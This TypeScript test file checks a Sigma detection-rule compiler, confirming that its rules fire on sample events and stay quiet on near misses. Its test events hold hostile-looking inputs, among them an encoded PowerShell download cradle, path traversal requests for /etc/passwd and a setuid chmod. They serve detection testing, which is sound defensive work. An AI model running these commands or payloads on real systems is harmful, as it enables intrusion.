import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { parseAllDocuments } from 'yaml';
import type { NormalizedEvent } from '../../../../src/core/event.js';
import { compileSigmaCollection, type SigmaDocInput } from '../../../../src/core/rules/sigma/collection.js';
import type { SigmaCompiledRule } from '../../../../src/core/rules/sigma/compile-rule.js';
import { makeEvent } from './event-factory.js';
import { sigmaCtx } from './sigma-kit.js';

/**
 * Sigma rules written to the specification (test/fixtures/sigma/*.yml) load, fire on the events
 * they describe and stay quiet on near misses; the ones in unsupported/ are refused at load.
 */
const DIR = fileURLToPath(new URL('../../../fixtures/sigma/', import.meta.url));

function readDocs(dir: string): SigmaDocInput[] {
  return readdirSync(dir)
    .filter((f) => f.endsWith('.yml'))
    .sort()
    .flatMap((f) =>
      parseAllDocuments(readFileSync(join(dir, f), 'utf8')).map((d, index) => {
        expect(d.errors, f).toEqual([]);
        return { file: f, index, doc: d.toJS() };
      }),
    );
}

const loaded = compileSigmaCollection(readDocs(DIR), sigmaCtx());
const byId = new Map(loaded.rules.map((r) => [r.meta.id, r]));

function rule(id: string): SigmaCompiledRule {
  const r = byId.get('sigma-' + id);
  if (!r) throw new Error(`rule ${id} not loaded`);
  return r;
}

/** Findings of one rule over one batch (fresh state). */
function fire(id: string, events: NormalizedEvent[]) {
  const r = rule(id);
  return r.evaluate(events, r.initialState());
}

const b64le = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
const proc = (process: string, attributes: Record<string, unknown>, user: string | null = 'CORP\\alice') => makeEvent({ process, user, attributes });

test('every supported fixture loads; correlation parts do not alert on their own', () => {
  expect(loaded.errors).toEqual([]);
  expect([...byId.keys()].sort()).toEqual(
    [
      'b7232cc5-4f75-4b6e-be80-a25f6de693f8',
      'e3a44072-2eb5-4014-bf7f-f2d943e32847',
      '9c8b7010-2211-475c-bef7-073a45d7ca28',
      'a8d9e718-3716-468a-a57d-1fe7d8c7e7a7',
      'd9034bd4-64d5-4e31-8c9e-fd11b26eadfd',
      'd89b100e-8cf6-4de8-98f0-8b40b77de12d',
      '91994ae4-bc1b-49ea-ab0c-7c2d52a02eee',
      'e164b45e-358c-499c-9577-1cd7beae7c3a',
      '593d1407-a7d4-48db-ad2b-d780af859870',
      'e8d93414-56df-43a4-82b2-79d0a80608e2',
      'd5a13a62-ff19-4405-9569-ef33b8c3cb5f',
    ]
      .map((id) => 'sigma-' + id)
      .sort(),
  );
  expect(byId.has('sigma-9d77b636-5104-4d13-9e9a-85fcc828b024')).toBe(false); // sshd_failed_password
  expect(byId.has('sigma-ae041d6e-241a-43c5-9f5f-85341c7c3b3d')).toBe(false); // firewall_blocked_connection
});

test('levels map to severities; informational loads disabled', () => {
  expect(rule('b7232cc5-4f75-4b6e-be80-a25f6de693f8').meta).toMatchObject({ severity: 'HIGH', enabled: true, tags: ['attack.discovery', 'attack.t1033'] });
  expect(rule('e3a44072-2eb5-4014-bf7f-f2d943e32847').meta.severity).toBe('CRITICAL');
  expect(rule('e8d93414-56df-43a4-82b2-79d0a80608e2').meta.severity).toBe('LOW');
  expect(rule('d5a13a62-ff19-4405-9569-ef33b8c3cb5f').meta).toMatchObject({ severity: 'LOW', enabled: false });
});

type Case = [string, NormalizedEvent];

describe.each<[string, string, Case[], Case[]]>([
  [
    'whoami privilege enumeration',
    'b7232cc5-4f75-4b6e-be80-a25f6de693f8',
    [
      ['whoami /priv', proc('C:\\Windows\\System32\\whoami.exe', { CommandLine: 'whoami /priv' })],
      ['renamed binary, dash flag', proc('C:\\Users\\Public\\w.exe', { OriginalFileName: 'WHOAMI.EXE', CommandLine: 'w.exe -groups' })],
    ],
    [
      ['run by SYSTEM', proc('C:\\Windows\\System32\\whoami.exe', { CommandLine: 'whoami /all' }, 'NT AUTHORITY\\SYSTEM')],
      ['no flag', proc('C:\\Windows\\System32\\whoami.exe', { CommandLine: 'whoami' })],
      ['other binary with the flag', proc('C:\\tools\\secedit.exe', { CommandLine: 'secedit /priv' })],
    ],
  ],
  [
    'encoded PowerShell download',
    'e3a44072-2eb5-4014-bf7f-f2d943e32847',
    [
      ['UTF-16LE Base64 download cradle', proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', { CommandLine: `powershell -nop -e ${b64le("IEX (New-Object Net.WebClient).DownloadString('http://x/a')")}` })],
      ['-enc with hidden window, slash flags', proc('C:\\Program Files\\PowerShell\\7\\pwsh.exe', { CommandLine: 'pwsh /enc ZQBjAGgAbwA= /w hidden' })],
    ],
    [
      ['UTF-8 Base64 (not what PowerShell decodes)', proc('C:\\Windows\\powershell.exe', { CommandLine: `powershell -e ${Buffer.from('(New-Object Net.WebClient).DownloadString').toString('base64')}` })],
      ['cradle in cmd.exe', proc('C:\\Windows\\System32\\cmd.exe', { CommandLine: `cmd /c ${b64le('Invoke-WebRequest http://x')}` })],
      ['encoded harmless command, visible', proc('C:\\Windows\\powershell.exe', { CommandLine: `powershell -enc ${b64le('Get-Date')}` })],
    ],
  ],
  [
    'failed admin network logon',
    '9c8b7010-2211-475c-bef7-073a45d7ca28',
    [
      ['Administrator over the network', makeEvent({ attributes: { EventID: 4625, LogonType: 3, TargetUserName: 'Administrator' } })],
      ['string values, RDP', makeEvent({ attributes: { EventID: '4625', LogonType: '10', TargetUserName: 'adm_bob' } })],
    ],
    [
      ['successful logon', makeEvent({ attributes: { EventID: 4624, LogonType: 3, TargetUserName: 'Administrator' } })],
      ['interactive logon', makeEvent({ attributes: { EventID: 4625, LogonType: 2, TargetUserName: 'Administrator' } })],
      ['machine account', makeEvent({ attributes: { EventID: 4625, LogonType: 3, TargetUserName: 'ADMSRV01$' } })],
      ['ordinary user', makeEvent({ attributes: { EventID: 4625, LogonType: 3, TargetUserName: 'bob' } })],
    ],
  ],
  [
    'auditd setuid chmod',
    'd89b100e-8cf6-4de8-98f0-8b40b77de12d',
    [
      ['u+s', makeEvent({ attributes: { type: 'EXECVE', a0: 'chmod', a1: 'u+s', a2: '/tmp/sh', cwd: '/tmp' } })],
      ['0777', makeEvent({ attributes: { type: 'EXECVE', a0: 'chmod', a1: '0777', a2: '/srv/app' } })],
      ['4755', makeEvent({ attributes: { type: 'EXECVE', a0: 'chmod', a1: '4755', a2: '/tmp/x' } })],
    ],
    [
      ['755', makeEvent({ attributes: { type: 'EXECVE', a0: 'chmod', a1: '755', a2: '/tmp/x' } })],
      ['package manager', makeEvent({ attributes: { type: 'EXECVE', a0: 'chmod', a1: 'u+s', cwd: '/var/lib/dpkg/tmp.ci' } })],
      ['SYSCALL record', makeEvent({ attributes: { type: 'SYSCALL', a0: 'chmod', a1: 'u+s' } })],
      ['chown', makeEvent({ attributes: { type: 'EXECVE', a0: 'chown', a1: 'u+s' } })],
    ],
  ],
  [
    'scanner user agent',
    '91994ae4-bc1b-49ea-ab0c-7c2d52a02eee',
    [
      ['sqlmap', makeEvent({ src_ip: '203.0.113.50', domain: 'shop.example.com', attributes: { 'c-useragent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } })],
      ['internal scanner against an outside host', makeEvent({ src_ip: '10.10.10.50', domain: 'shop.example.com', attributes: { 'c-useragent': 'Mozilla/5.00 (Nikto/2.5.0)' } })],
    ],
    [
      ['internal scanner on a corporate host', makeEvent({ src_ip: '10.10.10.50', domain: 'app.corp.example', attributes: { 'c-useragent': 'Nuclei - Open-source project' } })],
      ['browser', makeEvent({ src_ip: '203.0.113.50', domain: 'shop.example.com', attributes: { 'c-useragent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' } })],
    ],
  ],
  [
    'path traversal',
    'e164b45e-358c-499c-9577-1cd7beae7c3a',
    [
      ['plain', makeEvent({ attributes: { 'cs-uri-query': 'file=../../../../etc/passwd', 'sc-status': 200 } })],
      ['URL-encoded', makeEvent({ attributes: { 'cs-uri-query': 'f=..%2F..%2F..%2Fetc%2Fpasswd', 'sc-status': '200' } })],
      ['semicolon trick in the stem', makeEvent({ attributes: { 'cs-uri-stem': '/app/..;/WEB-INF/web.xml', 'sc-status': 200 } })],
    ],
    [
      ['refused by the server', makeEvent({ attributes: { 'cs-uri-query': 'file=../../../../etc/passwd', 'sc-status': 404 } })],
      ['relative image path', makeEvent({ attributes: { 'cs-uri-query': 'file=../images/logo.png', 'sc-status': 200 } })],
      ['absolute path without traversal', makeEvent({ attributes: { 'cs-uri-query': 'file=/etc/passwd', 'sc-status': 200 } })],
    ],
  ],
  [
    'RDP to a public address',
    '593d1407-a7d4-48db-ad2b-d780af859870',
    [
      ['IPv4', makeEvent({ dst_ip: '198.51.100.20', dst_port: 3389, attributes: { Initiated: true } })],
      ['IPv6', makeEvent({ dst_ip: '2001:db8::20', dst_port: 3389, attributes: { Initiated: 'true' } })],
    ],
    [
      ['private IPv4', makeEvent({ dst_ip: '192.168.1.20', dst_port: 3389, attributes: { Initiated: true } })],
      ['link-local IPv6', makeEvent({ dst_ip: 'fe80::1', dst_port: 3389, attributes: { Initiated: true } })],
      ['other port', makeEvent({ dst_ip: '198.51.100.20', dst_port: 3390, attributes: { Initiated: true } })],
      ['inbound', makeEvent({ dst_ip: '198.51.100.20', dst_port: 3389, attributes: { Initiated: false } })],
    ],
  ],
  [
    'long hex DNS label',
    'e8d93414-56df-43a4-82b2-79d0a80608e2',
    [['34 hex characters', makeEvent({ domain: 'a3f9c2e1d4b5a6978877665544332211ff.tunnel.example.net' })]],
    [
      ['ordinary name', makeEvent({ domain: 'www.example.com' })],
      ['CDN name', makeEvent({ domain: 'a3f9c2e1d4b5a6978877665544332211ff.cloudfront.net' })],
      ['31 hex characters', makeEvent({ domain: 'a3f9c2e1d4b5a697887766554433221.example.net' })],
    ],
  ],
])('%s', (_name, id, positives, negatives) => {
  test.each(positives)('fires: %s', (_case, event) => {
    const findings = fire(id, [event]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.rule_id).toBe('sigma-' + id);
    expect(Object.keys(findings[0]?.matched ?? {}).length).toBeGreaterThan(0);
  });
  test.each(negatives)('quiet: %s', (_case, event) => {
    expect(fire(id, [event])).toEqual([]);
  });
});

describe('SSH brute force (event_count)', () => {
  const id = 'a8d9e718-3716-468a-a57d-1fe7d8c7e7a7';
  const line = (ts: number, ip: string, text = `Failed password for root from ${ip} port 22 ssh2`) =>
    makeEvent({ ts, host: 'bastion', format: 'syslog3164', process: 'sshd', src_ip: ip, message: text, raw: `<38>May  4 10:00:00 bastion sshd[811]: ${text}` });

  test('five failures from one address within a minute', () => {
    const findings = fire(id, [0, 8, 16, 24, 32].map((s) => line(s * 1000, '203.0.113.7')));
    expect(findings).toEqual([expect.objectContaining({ severity: 'HIGH', host: 'bastion', dedup_key: `sigma-${id}|203.0.113.7`, matched: { SourceIp: '203.0.113.7', count: 5 } })]);
  });

  test('the PAM form of the message counts too', () => {
    const pam = (ts: number) => line(ts, '203.0.113.7', 'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7');
    expect(fire(id, [0, 1, 2, 3, 4].map(pam))).toHaveLength(1);
  });

  test.each<[string, NormalizedEvent[]]>([
    ['four failures and a success', [...[0, 1, 2, 3].map((s) => line(s * 1000, '203.0.113.7')), line(4000, '203.0.113.7', 'Accepted password for root from 203.0.113.7 port 22 ssh2')]],
    ['five addresses', [1, 2, 3, 4, 5].map((n) => line(n * 1000, `203.0.113.${n}`))],
    ['five failures over five minutes', [0, 1, 2, 3, 4].map((m) => line(m * 61_000, '203.0.113.7'))],
  ])('quiet: %s', (_case, events) => {
    expect(fire(id, events)).toEqual([]);
  });
});

describe('port scan (value_count)', () => {
  const id = 'd9034bd4-64d5-4e31-8c9e-fd11b26eadfd';
  const blocked = (i: number, ip: string, port: number, action = 'blocked') => makeEvent({ ts: i * 1000, host: 'fw-1', src_ip: ip, dst_port: port, attributes: { action } });

  test('twenty blocked ports from one address', () => {
    const findings = fire(id, Array.from({ length: 20 }, (_, i) => blocked(i, '198.51.100.9', 1000 + i)));
    expect(findings).toHaveLength(1);
    expect(findings[0]?.matched['count']).toBe(20);
  });

  test.each<[string, NormalizedEvent[]]>([
    ['nineteen ports', Array.from({ length: 19 }, (_, i) => blocked(i, '198.51.100.9', 1000 + i))],
    ['one port twenty times', Array.from({ length: 20 }, (_, i) => blocked(i, '198.51.100.9', 22))],
    ['internal source', Array.from({ length: 20 }, (_, i) => blocked(i, '10.1.1.1', 1000 + i))],
    ['allowed connections', Array.from({ length: 20 }, (_, i) => blocked(i, '198.51.100.9', 1000 + i, 'allow'))],
  ])('quiet: %s', (_case, events) => {
    expect(fire(id, events)).toEqual([]);
  });
});

describe('unsupported rules are refused at load, naming the rule and the feature', () => {
  const out = compileSigmaCollection(readDocs(join(DIR, 'unsupported')), sigmaCtx());

  test('nothing from them runs', () => {
    expect(out.rules).toEqual([]);
  });

  test.each([
    ['mr_event_count_less_than.yml', 'Too Few Heartbeats', 'correlation condition "lt" is not supported'],
    ['mr_temporal_recon.yml', 'Recon Commands In Sequence', 'correlation type "temporal" is not supported'],
    ['placeholder_expand.yml', 'Logon By Administrators Placeholder', 'placeholder %Administrators% has no list: set detection.sigma.placeholders.Administrators'],
    ['regex_pcre_only.yml', 'Regex With A PCRE-Only Anchor', 'regex escape "\\Z"'],
    ['sigma1_count_aggregation.yml', 'Many Failed Logons (Sigma 1 Aggregation)', '"detection.timeframe" (Sigma 1 aggregation) is not supported'],
    ['sigma1_near_operator.yml', 'Process Followed By DLL Load (Sigma 1 Near)', 'the pipe "|" (Sigma 1 aggregation such as count() or near) is not supported'],
    ['unknown_modifier.yml', 'Rule With A Made-Up Modifier', 'unknown modifier "foo"'],
  ])('%s', (file, title, message) => {
    const errs = out.errors.filter((e) => e.file === file);
    expect(errs).toEqual([{ file, rule: title, message: expect.stringContaining(message) }]);
    expect(errs[0]?.message).toContain(`"${title}"`);
  });
});
